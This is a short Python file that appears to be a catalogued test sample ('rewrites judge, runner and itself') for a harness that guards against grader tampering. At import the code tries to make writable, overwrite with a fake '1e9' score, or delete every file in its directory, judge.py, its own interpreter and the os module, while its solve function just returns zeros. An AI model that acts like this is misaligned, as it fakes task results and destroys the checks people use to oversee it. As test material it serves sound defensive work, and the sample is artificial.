# title: rewrites judge, runner and itself
# catalogue: 41
# fence: judge
# twin: bisection.py

import glob
import os
import sys

CHEAT = "print('{\"score\": 1e9}')"

here = os.path.dirname(os.path.abspath(sys.argv[0]))
for path in {*glob.glob(here + "/*"), *sys.argv, here + "/judge.py", "/proc/self/exe", os.__file__}:
    for change in (lambda: os.chmod(path, 0o777), lambda: open(path, "w").write(CHEAT), lambda: os.remove(path)):
        try:
            change()
        except OSError:
            pass


def solve(numbers):
    return [0] * len(numbers)
